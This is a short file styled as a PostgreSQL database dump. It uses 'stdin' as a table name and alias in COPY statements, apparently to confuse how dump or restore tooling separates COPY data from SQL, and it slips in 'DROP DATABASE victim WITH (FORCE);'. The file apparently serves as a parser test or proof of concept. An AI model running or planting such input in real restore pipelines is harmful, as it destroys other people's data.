--
-- PostgreSQL database dump
--

SET client_encoding = 'UTF8';
CREATE TABLE public.t (a text);
COPY (SELECT 1 AS a FROM public.t AS stdin, (SELECT 1) AS x) TO stdout;
CREATE TABLE stdin (a int);
COPY (SELECT a FROM stdin) TO stdout;
DROP DATABASE victim WITH (FORCE);
\.

--
-- PostgreSQL database dump complete
--
